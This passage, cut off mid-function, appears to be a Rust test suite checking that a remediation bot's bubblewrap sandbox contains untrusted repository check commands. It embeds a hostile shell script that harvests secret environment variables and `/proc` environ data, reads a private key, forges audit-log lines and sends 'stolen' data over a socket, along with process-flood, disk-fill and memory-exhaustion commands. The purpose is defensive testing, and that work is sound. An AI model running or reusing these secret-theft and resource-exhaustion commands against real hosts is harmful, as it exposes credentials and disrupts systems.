//! A repository's check command is a stranger's code on healbot's host (issue 13, section 1).
//! On main, a check script printed healbot's secrets, read files outside its worktree, opened a
//! connection out and could write the audit log; its output went into the audit log and the PR.
//! Each test here is one of those attacks (or a resource attack: fork bomb, huge file, memory,
//! running forever) against the real bubblewrap sandbox, through the library, through `serve`'s
//! handler against the fake GitHub, and through the `healbot serve` process itself.

use crate::support::app::{App, AppOptions, CATALOG, LOG, REPO, SECRET};
use crate::support::github::{test_key_path, FakeGithub, APP_ID};
use crate::support::prometheus::{serve_http, Prometheus};
use crate::support::toolchain;
use healbot::config::secrets::Redactor;
use healbot::fix::{run_check, CheckOutcome, CheckRequest, Sandbox};
use healbot::operation::OpState;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// What the hostile check may find in its environment (and nothing else).
const ALLOWED_ENV: &[&str] = &[
    "PATH",
    "HOME",
    "TMPDIR",
    "LANG",
    "PWD",
    "OLDPWD",
    "SHLVL",
    "_",
    "CARGO_NET_OFFLINE",
    "GOPROXY",
    "GOTOOLCHAIN",
    "npm_config_offline",
    "npm_config_update_notifier",
    "PIP_NO_INDEX",
];

/// A folder outside /tmp (the sandbox's /tmp is its own), for state a check must not reach.
fn outside_tmp() -> tempfile::TempDir {
    tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap()
}

fn bwrap(yaml: &str) -> Sandbox {
    Sandbox::new(toolchain::settings(yaml), Redactor::default())
}

async fn check(sandbox: &Sandbox, dir: &Path, command: &str, timeout: Duration) -> CheckOutcome {
    run_check(sandbox, CheckRequest::new(dir, command, timeout)).await
}

/// Processes whose command line holds `mark` (what a check left running).
fn processes_with(mark: &str) -> Vec<u32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        if let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) {
            if String::from_utf8_lossy(&cmdline).contains(mark) {
                found.push(pid);
            }
        }
    }
    found
}

/// The attacks of issue 13 in one script; each prints one line saying how it went. `key` is
/// a private key next to healbot's state, `audit` its audit log, `port` a loopback listener.
fn hostile_script(key: &Path, audit: &Path, port: u16) -> String {
    format!(
        r#"echo "secrets: [$HEALBOT_WEBHOOK_SECRET][$HEALBOT_SLACK_WEBHOOK_URL][$HEALBOT_SMTP_PASSWORD][$HEALBOT_PAGERDUTY_ROUTING_KEY]"
echo "env: $(env | cut -d= -f1 | sort | tr '\n' ' ')"
echo "environ: $(for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f"; done 2>/dev/null | cut -d= -f1 | sort -u | tr '\n' ' ')"
echo "proc-secrets: $(cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep '^HEALBOT_' | tr '\n' ' ')"
if cat '{key}' >/dev/null 2>&1; then echo "key: READ $(cat '{key}')"; else echo "key: denied"; fi
if echo forged >> '{audit}' 2>/dev/null; then echo "audit: WRITTEN"; else echo "audit: denied"; fi
if cat '{audit}' >/dev/null 2>&1 || ls "$(dirname '{audit}')" 2>/dev/null | grep -q audit; then echo "state: READ"; else echo "state: hidden"; fi
python3 -c "
import socket
try:
    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)
    s.sendall(b'stolen')
    print('network: CONNECTED')
except OSError:
    print('network: refused')
"
if touch '{usr_marker}' 2>/dev/null; then echo "system: WRITTEN"; else echo "system: read-only"; fi
echo "hostile check done"
"#,
        key = key.display(),
        audit = audit.display(),
        usr_marker = usr_marker().display(),
    )
}

/// What the hostile check tries to create under /usr (one name per test process, so a file
/// left by an earlier unsandboxed run does not count).
fn usr_marker() -> PathBuf {
    PathBuf::from(format!("/usr/healbot-was-here-{}", std::process::id()))
}

/// A loopback listener the hostile check tries to reach; `received` says whether anything did.
struct Listener(std::net::TcpListener);

impl Listener {
    fn start() -> Listener {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.set_nonblocking(true).unwrap();
        Listener(l)
    }

    fn port(&self) -> u16 {
        self.0.local_addr().unwrap().port()
    }

    /// Whatever connected (a connection waits in the backlog even if never accepted).
    fn received(&self) -> Option<String> {
        match self.0.accept() {
            Ok((mut s, from)) => {
                s.set_nonblocking(false).ok();
                s.set_read_timeout(Some(Duration::from_secs(1))).ok();
                let mut buf = String::new();
                let _ = s.read_to_string(&mut buf);
                Some(format!("a connection from {from}: {buf:?}"))
            }
            Err(_) => None,
        }
    }
}

/// The lines the hostile check printed, asserted one by one.
fn assert_contained(tail: &str) {
    let line = |prefix: &str| {
        tail.lines()
            .find(|l| l.starts_with(prefix))
            .unwrap_or_else(|| panic!("no `{prefix}` line in:\n{tail}"))
            .to_string()
    };
    assert_eq!(line("secrets:"), "secrets: [][][][]", "{tail}");
    for prefix in ["env:", "environ:"] {
        let l = line(prefix);
        let names: Vec<&str> = l[prefix.len()..].split_whitespace().collect();
        let extra: Vec<&&str> = names.iter().filter(|n| !ALLOWED_ENV.contains(n)).collect();
        assert!(extra.is_empty(), "`{prefix}` shows {extra:?}:\n{tail}");
    }
    assert_eq!(line("proc-secrets:").trim(), "proc-secrets:", "{tail}");
    assert_eq!(line("key:"), "key: denied", "{tail}");
    assert_eq!(line("audit:"), "audit: denied", "{tail}");
    assert_eq!(line("state:"), "state: hidden", "{tail}");
    assert_eq!(line("network:"), "network: refused", "{tail}");
    assert_eq!(line("system:"), "system: read-only", "{tail}");
    assert!(tail.contains("hostile check done"), "{tail}");
}

const FAKE_KEY: &str = "-----BEGIN RSA PRIVATE KEY-----\nFAKEKEYBODYthatmustneverleaveitsfile0123456789\n-----END RSA PRIVATE KEY-----\n";

#[tokio::test]
async fn a_hostile_check_reads_reaches_and_writes_nothing_outside_its_worktree() {
    let root = outside_tmp();
    let state = root.path().join("state");
    std::fs::create_dir_all(&state).unwrap();
    let key = root.path().join("github-app.pem");
    std::fs::write(&key, FAKE_KEY).unwrap();
    let audit = state.join("audit.jsonl");
    std::fs::write(&audit, "{}\n").unwrap();
    let listener = Listener::start();
    let work = root.path().join("worktree");
    std::fs::create_dir_all(&work).unwrap();
    std::fs::write(
        work.join("check.sh"),
        hostile_script(&key, &audit, listener.port()),
    )
    .unwrap();

    let out = check(
        &Sandbox::default(),
        &work,
        "sh check.sh; echo wrote > result",
        Duration::from_secs(60),
    )
    .await;
    assert!(out.passed, "{out:?}");
    assert_contained(&out.output_tail);
    assert!(!out.output_tail.contains("FAKEKEYBODY"));
    assert_eq!(listener.received(), None);
    assert_eq!(std::fs::read_to_string(&audit).unwrap(), "{}\n");
    // The worktree is writable: that is where builds go.
    assert_eq!(
        std::fs::read_to_string(work.join("result")).unwrap(),
        "wrote\n"
    );
    assert!(!usr_marker().exists());
}

/// A process flood, bounded by the test itself: 200 sleepers at most, even if every limit
/// failed (an unbounded fork bomb here once took the machine's load average to 580). healbot
/// runs as root here, where RLIMIT_NPROC does not bind: the pids cgroup and the watch must.
#[tokio::test]
async fn a_process_flood_is_stopped_at_the_limit_and_killed_with_its_whole_tree() {
    let work = tempfile::tempdir().unwrap();
    // `sleep 29.<pid>` sleeps about 30 s and names this test in its command line.
    let mark = format!("29.{}", std::process::id());
    let sandbox = bwrap("limits: {processes: 64}\n");
    let started = Instant::now();
    let out = check(
        &sandbox,
        work.path(),
        &format!(
            "i=0; while [ $i -lt 200 ]; do sleep {mark} & i=$((i+1)); done 2>/dev/null; \
             echo \"flood done\"; wait"
        ),
        Duration::from_secs(60),
    )
    .await;
    assert!(!out.passed && !out.timed_out, "{out:?}");
    assert!(
        out.output_tail
            .contains("more than 64 processes and threads (validation.limits.processes)]"),
        "{}",
        out.output_tail
    );
    assert!(started.elapsed() < Duration::from_secs(20), "{out:?}");
    assert_eq!(processes_with(&mark), Vec::<u32>::new(), "left running");
}

#[tokio::test]
async fn a_huge_file_stops_at_the_file_size_limit() {
    let work = tempfile::tempdir().unwrap();
    let sandbox = bwrap("limits: {file_size_mb: 2}\n");
    let out = check(
        &sandbox,
        work.path(),
        "head -c 104857600 /dev/zero > big; echo \"head exit $?\"; \
         head -c 104857600 /dev/zero > /tmp/big; echo \"tmp exit $?\"",
        Duration::from_secs(60),
    )
    .await;
    let size = std::fs::metadata(work.path().join("big")).unwrap().len();
    assert!(size <= 2 * 1024 * 1024, "{size} bytes");
    // 128 + SIGXFSZ (25): head was stopped by the limit, in the worktree and in /tmp.
    assert!(
        out.output_tail.contains("head exit 153"),
        "{}",
        out.output_tail
    );
    assert!(
        out.output_tail.contains("tmp exit 153"),
        "{}",
        out.output_tail
    );
}

#[tokio::test]
async fn memory_is_bounded_per_process_and_for_the_whole_tree() {
    let work = tempfile::tempdir().unwrap();
    let sandbox = bwrap("limits: {memory_mb: 300}\n");
    // One process asking for more than the limit fails its allocation.
    let one = check(
        &sandbox,
        work.path(),
        "python3 -c 'b = bytearray(1024 * 1024 * 1024)'",
        Duration::from_secs(60),
    )
    .await;
    assert!(!one.passed, "{one:?}");
    assert!(
        one.output_tail.contains("MemoryError"),
        "{}",
        one.output_tail
    );
    // Three processes under it each, over it together: healbot's watch kills the tree.
    let many = check(
        &sandbox,
        work.path(),
        "for i in 1 2 3; do python3 -c 'import time; b = b\"x\" * (150 * 1024 * 1024); \
         time.sleep(60)' & done; wait",
        Duration::from_secs(60),
    )
    .await;
    assert!(!many.passed && !many.timed_out, "{many:?}");
    assert!(
        many.output_tail
            .contains("[healbot: killed: more than 300 MB of memory"),
        "{}",
        many.output_tail
    );
}

#[tokio::test]
async fn a_check_that_runs_forever_is_killed_at_the_timeout_or_its_cpu_limit() {
    let work = tempfile::tempdir().unwrap();
    let mark = format!("forever{}", std::process::id());
    let started = Instant::now();
    let out = check(
        &Sandbox::default(),
        work.path(),
        &format!("({mark}=1; while :; do sleep 1; done) & while :; do :; done"),
        Duration::from_secs(1),
    )
    .await;
    assert!(out.timed_out && !out.passed, "{out:?}");
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(out.output_tail.contains("[healbot: killed after 1s]"));
    assert_eq!(processes_with(&mark), Vec::<u32>::new(), "left running");

    let cpu = bwrap("limits: {cpu_seconds: 1}\n");
    let out = check(
        &cpu,
        work.path(),
        "while :; do :; done",
        Duration::from_secs(60),
    )
    .await;
    assert!(!out.passed && !out.timed_out, "{out:?}");
    assert!(
        out.output_tail
            .contains("stopped by the CPU-time limit (validation.limits.cpu_seconds: 1)"),
        "{}",
        out.output_tail
    );
}

#[tokio::test]
async fn without_bubblewrap_the_check_does_not_run() {
    let work = outside_tmp();
    let sandbox = bwrap("bwrap: /nonexistent/bwrap\n");
    let out = check(&sandbox, work.path(), "touch ran", Duration::from_secs(10)).await;
    assert!(!out.passed && !work.path().join("ran").exists(), "{out:?}");
    let why = out.refused.unwrap();
    assert!(
        why.starts_with("no sandbox to run the check in (/nonexistent/bwrap is not installed"),
        "{why}"
    );
    assert!(why.contains("validation: {sandbox: none}"), "{why}");
}

#[tokio::test]
async fn output_is_capped_and_scrubbed_of_every_secret() {
    let work = tempfile::tempdir().unwrap();
    let secret = "xoxb-hooks-slack-com-T000-B000-topsecret";
    std::fs::write(work.path().join("leak.txt"), format!("token={secret}\n")).unwrap();
    let settings = toolchain::settings("sandbox: bwrap\n");
    let sandbox = Sandbox::new(settings, Redactor::new([secret]));
    let out = check(
        &sandbox,
        work.path(),
        "head -c 50000000 /dev/urandom | base64; cat leak.txt",
        Duration::from_secs(60),
    )
    .await;
    assert!(out.passed, "{out:?}");
    assert!(!out.output_tail.contains(secret));
    assert!(
        out.output_tail.ends_with("token=[redacted]"),
        "{}",
        &out.output_tail
    );
    assert!(out.output_tail.len() <= 8 * 1024);
    assert!(out.output_tail.lines().count() <= 40);
}

/// A small crate depending on a crate from the already-fetched CARGO_HOME (the version
/// healbot's own lock file holds, so it is there).
#[tokio::test]
async fn cargo_test_offline_runs_inside_with_a_read_only_cargo_home() {
    let lock =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("Cargo.lock")).unwrap();
    let itoa = lock
        .split("[[package]]")
        .find(|p| p.contains("name = \"itoa\""))
        .and_then(|p| p.lines().find_map(|l| l.strip_prefix("version = ")))
        .unwrap()
        .trim_matches('"')
        .to_string();
    let work = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(work.path().join("src")).unwrap();
    std::fs::write(
        work.path().join("Cargo.toml"),
        format!(
            "[package]\nname = \"sandboxed\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
             [dependencies]\nitoa = \"={itoa}\"\n"
        ),
    )
    .unwrap();
    let lib = "pub fn show(n: u32) -> String { itoa::Buffer::new().format(n).to_string() }\n\
               #[cfg(test)]\nmod t {\n    #[test]\n    fn shows() { assert_eq!(super::show(42), \"42\"); }\n}\n";
    std::fs::write(work.path().join("src/lib.rs"), lib).unwrap();
    let sandbox = toolchain::rust();
    let out = check(
        &sandbox,
        work.path(),
        "cargo test --offline",
        Duration::from_secs(600),
    )
    .await;
    assert!(out.passed, "{}", out.output_tail);
    assert!(
        out.output_tail.contains("test t::shows ... ok"),
        "{}",
        out.output_tail
    );
    // And a failing test fails the check.
    std::fs::write(
        work.path().join("src/lib.rs"),
        lib.replace("\"42\"", "\"43\""),
    )
    .unwrap();
    let out = check(
        &sandbox,
        work.path(),
        "cargo test --offline",
        Duration::from_secs(600),
    )
    .await;
    assert!(!out.passed, "{}", out.output_tail);
}

#[tokio::test]
async fn pytest_runs_inside() {
    let work = tempfile::tempdir().unwrap();
    std::fs::write(
        work.path().join("test_sum.py"),
        "def test_sum():\n    assert sum([1, 2]) == 3\n",
    )
    .unwrap();
    let command = "python3 -m pytest -q";
    let out = check(
        &Sandbox::default(),
        work.path(),
        command,
        Duration::from_secs(120),
    )
    .await;
    assert!(out.passed, "{}", out.output_tail);
    assert!(out.output_tail.contains("1 passed"), "{}", out.output_tail);
    // A failing version of the test; the bytecode cache of the first run keys on mtime and
    // size, which a rewrite in the same second may share, so it goes.
    let _ = std::fs::remove_dir_all(work.path().join("__pycache__"));
    std::fs::write(
        work.path().join("test_sum.py"),
        "def test_sum():\n    assert sum([1, 2]) == 40\n",
    )
    .unwrap();
    let out = check(
        &Sandbox::default(),
        work.path(),
        command,
        Duration::from_secs(120),
    )
    .await;
    assert!(
        !out.passed && out.output_tail.contains("1 failed"),
        "{}",
        out.output_tail
    );
}

/// `go test` with a dependency from a module cache that healbot.yaml mounts read-only. The
/// cache is filled outside the sandbox from a file proxy (the layout `GOPROXY=file://` reads),
/// as an operator's warm cache would be; inside, the network and the proxy are off.
#[tokio::test]
async fn go_test_runs_inside_with_a_read_only_module_cache() {
    let proxy = tempfile::tempdir().unwrap();
    let versions = proxy.path().join("example.com/greet/@v");
    std::fs::create_dir_all(&versions).unwrap();
    let greet_mod = "module example.com/greet\n\ngo 1.19\n";
    std::fs::write(versions.join("list"), "v1.0.0\n").unwrap();
    std::fs::write(
        versions.join("v1.0.0.info"),
        r#"{"Version":"v1.0.0","Time":"2026-01-01T00:00:00Z"}"#,
    )
    .unwrap();
    std::fs::write(versions.join("v1.0.0.mod"), greet_mod).unwrap();
    // A module zip: every file under `<module>@<version>/`.
    let zipped = Command::new("python3")
        .arg("-c")
        .arg(
            "import sys, zipfile\n\
             z = zipfile.ZipFile(sys.argv[1], 'w')\n\
             z.writestr('example.com/greet@v1.0.0/go.mod', sys.argv[2])\n\
             z.writestr('example.com/greet@v1.0.0/greet.go', \
             'package greet\\n\\nfunc Hello(n string) string { return \"hello, \" + n }\\n')\n\
             z.close()\n",
        )
        .arg(versions.join("v1.0.0.zip"))
        .arg(greet_mod)
        .status()
        .unwrap();
    assert!(zipped.success());

    let modcache = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    std::fs::write(
        work.path().join("go.mod"),
        "module example.com/app\n\ngo 1.19\n\nrequire example.com/greet v1.0.0\n",
    )
    .unwrap();
    let app = "package app\n\nimport \"example.com/greet\"\n\n\
               func Welcome() string { return greet.Hello(\"sre\") }\n";
    std::fs::write(work.path().join("app.go"), app).unwrap();
    std::fs::write(
        work.path().join("app_test.go"),
        "package app\n\nimport \"testing\"\n\nfunc TestWelcome(t *testing.T) {\n\
         \tif got := Welcome(); got != \"hello, sre\" {\n\t\tt.Fatalf(\"got %q\", got)\n\t}\n}\n",
    )
    .unwrap();
    let gocache = tempfile::tempdir().unwrap();
    let fetched = Command::new("go")
        .args(["mod", "download", "-x", "all"])
        .current_dir(work.path())
        .env("GOMODCACHE", modcache.path())
        .env("GOCACHE", gocache.path())
        .env("GOPROXY", format!("file://{}", proxy.path().display()))
        .env("GOSUMDB", "off")
        .env("GOFLAGS", "-mod=mod -modcacherw")
        .output()
        .expect("go is installed (scripts/test installs golang-go)");
    assert!(
        fetched.status.success(),
        "{}",
        String::from_utf8_lossy(&fetched.stderr)
    );
    let tidied = Command::new("go")
        .args(["mod", "tidy"])
        .current_dir(work.path())
        .env("GOMODCACHE", modcache.path())
        .env("GOCACHE", gocache.path())
        .env("GOPROXY", "off")
        .env("GOSUMDB", "off")
        .output()
        .unwrap();
    assert!(
        tidied.status.success(),
        "{}",
        String::from_utf8_lossy(&tidied.stderr)
    );

    let sandbox = bwrap(&format!(
        "caches: [{{path: {}, env: GOMODCACHE}}]\nenv: {{GOFLAGS: -mod=readonly}}\n",
        modcache.path().display()
    ));
    let out = check(
        &sandbox,
        work.path(),
        "go test ./...",
        Duration::from_secs(300),
    )
    .await;
    assert!(out.passed, "{}", out.output_tail);
    assert!(
        out.output_tail.contains("ok  \texample.com/app"),
        "{}",
        out.output_tail
    );
    std::fs::write(work.path().join("app.go"), app.replace("sre", "dev")).unwrap();
    let out = check(
        &sandbox,
        work.path(),
        "go test ./...",
        Duration::from_secs(300),
    )
    .await;
    assert!(
        !out.passed && out.output_tail.contains("FAIL"),
        "{}",
        out.output_tail
    );
}

/// `npm test` with `node_modules` present, as a repository that installed its dependencies
/// has it; npm's offline and update-check settings come from the sandbox.
#[tokio::test]
async fn npm_test_runs_inside_with_node_modules_present() {
    let work = tempfile::tempdir().unwrap();
    std::fs::write(
        work.path().join("package.json"),
        r#"{"name": "app", "version": "1.0.0", "private": true,
            "scripts": {"test": "node --test"}, "dependencies": {"greet": "1.0.0"}}"#,
    )
    .unwrap();
    let module = work.path().join("node_modules/greet");
    std::fs::create_dir_all(&module).unwrap();
    std::fs::write(
        module.join("package.json"),
        r#"{"name": "greet", "version": "1.0.0", "main": "index.js"}"#,
    )
    .unwrap();
    std::fs::write(
        module.join("index.js"),
        "exports.hello = (n) => `hello, ${n}`;\n",
    )
    .unwrap();
    std::fs::create_dir_all(work.path().join("test")).unwrap();
    let test = "const test = require('node:test');\nconst assert = require('node:assert');\n\
                const { hello } = require('greet');\n\
                test('hello', () => assert.strictEqual(hello('sre'), 'hello, sre'));\n";
    std::fs::write(work.path().join("test/greet.test.js"), test).unwrap();
    let sandbox = bwrap("sandbox: bwrap\n");
    let out = check(&sandbox, work.path(), "npm test", Duration::from_secs(120)).await;
    assert!(out.passed, "{}", out.output_tail);
    assert!(out.output_tail.contains("pass 1"), "{}", out.output_tail);
    std::fs::write(
        work.path().join("test/greet.test.js"),
        test.replace("'hello, sre'", "'bye'"),
    )
    .unwrap();
    let out = check(&sandbox, work.path(), "npm test", Duration::from_secs(120)).await;
    assert!(
        !out.passed && out.output_tail.contains("fail 1"),
        "{}",
        out.output_tail
    );
}

// ---------------------------------------------------------------------------------------------
// Through `serve`'s handler, against the fake GitHub.

/// The payment service's `.github/healbot.yml` with `command` as its check.
fn repo_config(command: &str) -> String {
    format!(
        "services:\n  - name: payment-service\n    language: python\n    paths: [\".\"]\n    \
         manifests: [\"deploy/rollout.yaml\"]\nvalidation:\n  command: {command:?}\n  \
         timeout_seconds: 60\napprovers:\n  permission: write\n  allow: []\n"
    )
}

/// Every request body healbot sent to GitHub (PR, comments, commits, check runs).
fn sent_to_github(fake: &FakeGithub) -> String {
    fake.seen()
        .iter()
        .map(|s| format!("{} {} {}", s.method, s.path, s.body))
        .collect::<Vec<_>>()
        .join("\n")
}

/// The audit log as written.
fn audit_text(app: &App) -> String {
    std::fs::read_to_string(App::state_dir(app.state.path()).join("audit.jsonl")).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn in_serve_a_hostile_check_leaks_nothing_and_the_pr_shows_what_it_tried() {
    let root = outside_tmp();
    let state = App::state_dir(root.path());
    let key = root.path().join("github-app.pem");
    std::fs::write(&key, FAKE_KEY).unwrap();
    let listener = Listener::start();
    let options = AppOptions {
        repo_config: Some(repo_config("sh ci/check.sh")),
        extra_files: vec![(
            "ci/check.sh".into(),
            hostile_script(&key, &state.join("audit.jsonl"), listener.port()),
        )],
        ..AppOptions::default()
    };
    let mut t = App::start_in(root, options).await;
    t.alert().await;

    // The check passed (it only printed), so the fix went on to a PR.
    assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
    let audit = audit_text(&t);
    assert!(
        audit.contains("hostile check done"),
        "the check's tail is in the audit log"
    );
    for (attack, outcome) in [
        ("key", "denied"),
        ("audit", "denied"),
        ("network", "refused"),
        ("system", "read-only"),
    ] {
        assert!(
            audit.contains(&format!("{attack}: {outcome}")),
            "{attack}: {audit}"
        );
    }
    assert!(audit.contains("secrets: [][][][]"));
    let sent = sent_to_github(&t.fake);
    assert!(
        sent.contains("`sh ci/check.sh` passed"),
        "the PR body names the check"
    );
    assert!(!sent.contains("FAKEKEYBODY") && !audit.contains("FAKEKEYBODY"));
    assert!(!audit.contains("forged"));
    assert_eq!(listener.received(), None);
    let report = healbot::audit::verify::verify_file(&state.join("audit.jsonl")).unwrap();
    assert!(report.holds(), "{report:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn in_serve_without_a_sandbox_the_fix_is_escalated_and_the_check_never_runs() {
    let root = outside_tmp();
    let marker = root.path().join("the-check-ran");
    let options = AppOptions {
        repo_config: Some(repo_config(&format!("touch {}", marker.display()))),
        validation: Some(toolchain::settings("bwrap: /nonexistent/bwrap\n")),
        ..AppOptions::default()
    };
    let mut t = App::start_in(root, options).await;
    t.alert().await;
    assert_eq!(t.state_of_only_operation().await, OpState::Escalated);
    assert!(!marker.exists(), "the check ran without a sandbox");
    assert!(t.fake.pr_numbers(REPO).is_empty());
    let audit = audit_text(&t);
    assert!(
        audit.contains("the check command did not run, so no fix is validated: no sandbox"),
        "{audit}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn in_serve_a_command_healbot_yaml_does_not_allow_is_refused_and_escalated() {
    let root = outside_tmp();
    let marker = root.path().join("the-check-ran");
    let command = format!("touch {}", marker.display());
    let options = AppOptions {
        repo_config: Some(repo_config(&command)),
        validation: Some(toolchain::settings(
            "sandbox: none\nallowed_commands: {acme/payment-service: [make test]}\n",
        )),
        ..AppOptions::default()
    };
    let mut t = App::start_in(root, options).await;
    t.alert().await;
    assert_eq!(t.state_of_only_operation().await, OpState::Escalated);
    assert!(
        !marker.exists(),
        "a command healbot.yaml does not allow ran"
    );
    let audit = audit_text(&t);
    assert!(
        audit.contains(&format!(
            "`{command}` is not a check command healbot.yaml allows for acme/payment-service \
             (validation.allowed_commands: `make test`)"
        )),
        "{audit}"
    );
}

/// With `sandbox: none` the check can read the App's key; what it prints is still scrubbed
/// before the PR and the audit log see it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn in_serve_sandbox_none_still_scrubs_every_secret_from_the_output() {
    let root = outside_tmp();
    // The webhook secret is put together at run time, so the command itself does not hold it.
    let (head, rest) = SECRET.split_at(4);
    let command = format!(
        "cat {}; echo webhook={head}$(echo {rest}); python3 -m unittest discover -s tests -q",
        test_key_path().display()
    );
    let options = AppOptions {
        repo_config: Some(repo_config(&command)),
        validation: Some(toolchain::settings("sandbox: none\n")),
        ..AppOptions::default()
    };
    let mut t = App::start_in(root, options).await;
    t.alert().await;
    assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
    let pem = std::fs::read_to_string(test_key_path()).unwrap();
    let body_lines = healbot::config::secrets::pem_body_lines(&pem);
    let sent = sent_to_github(&t.fake);
    let audit = audit_text(&t);
    assert!(
        audit.contains("webhook=[redacted]"),
        "the tail reached the audit log"
    );
    assert!(
        audit.contains("[redacted]\\n[redacted]"),
        "the key's lines are redacted"
    );
    for text in [&sent, &audit] {
        assert!(!text.contains(SECRET));
        for line in body_lines.iter().filter(|l| l.len() > 20) {
            assert!(
                !text.contains(line.as_str()),
                "a line of the App's key leaked"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The `healbot serve` process itself: its environment and what it says about the sandbox.

/// Secret variables set on `healbot serve` (values unlike anything else in a log).
const ENV_SECRETS: &[(&str, &str)] = &[
    ("HEALBOT_WEBHOOK_SECRET", "whsec-env-0f3e9c1d2b"),
    ("HEALBOT_SMTP_PASSWORD", "smtp-pass-7a6b5c4d3e"),
    (
        "HEALBOT_PAGERDUTY_ROUTING_KEY",
        "pdkey0123456789abcdef0123456789ab",
    ),
    ("HEALBOT_ALERTMANAGER_TOKEN", "amtoken-5e4d3c2b1a"),
];

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .unwrap()
}

/// A `healbot serve` child, killed on drop.
struct Serve {
    child: std::process::Child,
    port: u16,
    log: PathBuf,
}

impl Serve {
    fn start(dir: &Path, yaml: &str, env: &[(&str, String)]) -> Serve {
        let port = free_port();
        let config = dir.join("healbot.yaml");
        std::fs::write(&config, format!("listen: 127.0.0.1:{port}\n{yaml}")).unwrap();
        let log = dir.join("serve.log");
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_healbot"));
        cmd.arg("serve")
            .arg("--config")
            .arg(&config)
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&log).unwrap());
        for (k, v) in env {
            cmd.env(k, v);
        }
        Serve {
            child: cmd.spawn().unwrap(),
            port,
            log,
        }
    }

    async fn healthz(&self) -> serde_json::Value {
        let url = format!("http://127.0.0.1:{}/healthz", self.port);
        let start = Instant::now();
        loop {
            if let Ok(r) = healbot::http_client::client().get(&url).send().await {
                return r.json().await.unwrap();
            }
            assert!(
                start.elapsed() < Duration::from_secs(30),
                "serve did not start:\n{}",
                self.log()
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    fn log(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    fn environ(&self) -> String {
        let bytes = std::fs::read(format!("/proc/{}/environ", self.child.id())).unwrap();
        String::from_utf8_lossy(&bytes).replace('\0', "\n")
    }
}

impl Drop for Serve {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn env_secrets() -> Vec<(&'static str, String)> {
    ENV_SECRETS
        .iter()
        .map(|(k, v)| (*k, v.to_string()))
        .collect()
}

#[tokio::test]
async fn serve_takes_its_secrets_out_of_its_environment_and_says_how_checks_run() {
    let dir = tempfile::tempdir().unwrap();
    let none = Serve::start(
        dir.path(),
        "state_dir: state-none\nvalidation: {sandbox: none}\n",
        &env_secrets(),
    );
    let health = none.healthz().await;
    assert!(
        health["sandbox"]
            .as_str()
            .unwrap()
            .starts_with("none: check commands run without isolation"),
        "{health}"
    );
    // Neither the variables nor their bytes stay where another process could read them.
    let environ = none.environ();
    for (name, value) in ENV_SECRETS {
        assert!(
            !environ.contains(value),
            "{name}'s value is in /proc/<pid>/environ"
        );
    }
    let log = none.log();
    assert!(
        log.contains("\"level\":\"WARN\"") && log.contains("validation.sandbox is none"),
        "{log}"
    );
    drop(none);

    let dir2 = tempfile::tempdir().unwrap();
    let missing = Serve::start(
        dir2.path(),
        "state_dir: state\nvalidation: {bwrap: /nonexistent/bwrap}\n",
        &env_secrets(),
    );
    let health = missing.healthz().await;
    let said = health["sandbox"].as_str().unwrap();
    assert!(
        said.starts_with("unavailable: /nonexistent/bwrap is not installed")
            && said.ends_with("check commands are refused and fixes escalated"),
        "{said}"
    );
    assert!(missing.log().contains("no sandbox for check commands"));
    drop(missing);

    let dir3 = tempfile::tempdir().unwrap();
    let default = Serve::start(dir3.path(), "state_dir: state\n", &env_secrets());
    assert_eq!(default.healthz().await["sandbox"], "bwrap");
}

/// The whole path in `serve`: an alert, the fix, the hostile check in bubblewrap, which fails,
/// so its tail goes into the escalation (audit log, notifications, serve's log). The secrets in
/// serve's environment reach none of them, and nothing the check tried got through.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn serve_runs_a_hostile_check_with_its_secrets_out_of_reach() {
    let root = outside_tmp();
    let state = root.path().join("state");
    let key = root.path().join("other-key.pem");
    std::fs::write(&key, FAKE_KEY).unwrap();
    let listener = Listener::start();
    let script = hostile_script(&key, &state.join("audit.jsonl"), listener.port()) + "exit 1\n";

    let fake = FakeGithub::start().await;
    crate::support::app::seed_repo_with(
        &fake,
        Some(&repo_config("sh ci/check.sh")),
        &[("ci/check.sh".to_string(), script)],
    );
    // Notifications go to loopback sinks (Slack's URL is itself a secret).
    let (sink, posted) = serve_http(Arc::new(|_| (200, "text/plain".into(), "ok".into()))).await;
    let slack_url = format!("http://{sink}/services/T0000/B0000/slackpathsecret42");
    let exporter = Arc::new(healbot::demo::exporter::Exporter::new());
    exporter.register("payment-service", "stable");
    exporter.register("payment-service", "canary");
    let exporter_addr = exporter.serve("127.0.0.1:0").await.unwrap();
    crate::replica_crash::traffic(exporter.clone());
    let prometheus = Prometheus::start(exporter_addr).await;
    scraped(&prometheus.url).await;
    std::fs::write(root.path().join("payment-service.log"), LOG).unwrap();
    let yaml = format!(
